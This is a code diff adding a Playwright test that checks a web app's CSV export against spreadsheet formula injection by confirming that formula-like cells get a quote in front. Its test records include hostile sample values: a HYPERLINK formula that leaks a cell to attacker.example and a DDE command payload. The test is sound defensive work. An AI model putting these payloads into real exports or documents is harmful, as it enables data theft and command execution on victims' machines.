@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { existsSync, readFileSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import { after, before, describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { chromium, type Browser, type Locator, type Page } from 'playwright-core';
 import { Webhook } from 'standardwebhooks';
 import { api, createTestOrganization, startTestServer, type TestOrganization, type TestServer } from '../support/harness.ts';
@@ -881,6 +882,36 @@ describe('web app', { skip: chromiumSkip }, () => {
     await page.getByRole('heading', { name: 'Sources and datasets' }).waitFor();
     assert.equal(await banner.count(), 0, 'no banner once it is enabled again');
     await call('DELETE', `/${created.id}`);
+    await page.context().close();
+  });
+
+  it('exports CSV that no spreadsheet runs: text that would start a formula gets a quote in front, amounts and number columns stay numbers', async () => {
+    const call = (method: string, path: string, body?: unknown) => api(server, organization.token, method, `/v1/api/${organization.orgId}${path}`, body);
+    const source = (await call('POST', '/sources', { name: 'Formula Bank' })).body;
+    const dataset = (await call('POST', `/sources/${source.id}/datasets`, { name: 'Hostile statement', columns: [{ name: 'memo', type: 'string' }, { name: 'fee', type: 'money' }] })).body;
+    const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Invoice")';
+    const records = [
+      { externalId: 'F1', timestamp: Date.UTC(2026, 2, 1), amount: '-25.00', currency: 'EUR', description: hostile, reference: '@SUM(A1:A9)', memo: "+1+cmd|' /C calc'!A0", fee: '-0.50' },
+      { externalId: 'F2', timestamp: Date.UTC(2026, 2, 2), amount: '12.00', currency: 'EUR', description: '\t=1+1', reference: '-2+3', memo: 'plain text', fee: '1.25' },
+    ];
+    assert.equal((await call('POST', `/datasets/${dataset.id}/transactions`, { records })).status, 200);
+
+    const page = await signedIn();
+    await page.goto(`${server.baseUrl}/transactions?dataset=${dataset.id}`);
+    await page.getByText('2 transactions', { exact: false }).first().waitFor();
+    await page.getByRole('checkbox', { name: 'memo' }).check();
+    await page.getByRole('checkbox', { name: 'fee' }).check();
+    await page.getByRole('button', { name: 'Apply' }).click();
+    await page.getByRole('columnheader', { name: 'fee' }).waitFor();
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
+    const rows = parse(readFileSync((await download.path())!, 'utf8'), { columns: true }) as Record<string, string>[];
+    assert.deepEqual(
+      rows.map(({ amount, description, reference, memo, fee }) => ({ amount, description, reference, memo, fee })),
+      [
+        { amount: '-25.00', description: `'${hostile}`, reference: "'@SUM(A1:A9)", memo: "'+1+cmd|' /C calc'!A0", fee: '-0.50' },
+        { amount: '12.00', description: "'\t=1+1", reference: "'-2+3", memo: 'plain text', fee: '1.25' },
+      ],
+    );
     await page.context().close();
   });
 });
